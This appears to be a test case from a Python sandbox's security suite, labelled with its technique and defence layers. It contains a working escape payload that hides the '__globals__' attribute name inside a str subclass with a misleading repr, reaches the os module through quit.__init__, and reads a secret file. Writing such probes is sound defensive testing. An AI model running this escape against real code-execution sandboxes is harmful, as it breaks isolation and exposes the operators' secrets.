# class: names built at run time
# technique: an attribute's name in a str subclass that shows another text
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import operator
kind = lambda x: classmethod(lambda c: c).__get__(x)()
Shown = kind(int)('Shown', (str,), {'__str__': lambda self: 'upper', '__repr__': lambda self: 'upper'})
name = Shown('_'.join(['', '', 'globals', '', '']))
g = operator.attrgetter(name)(quit.__init__)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
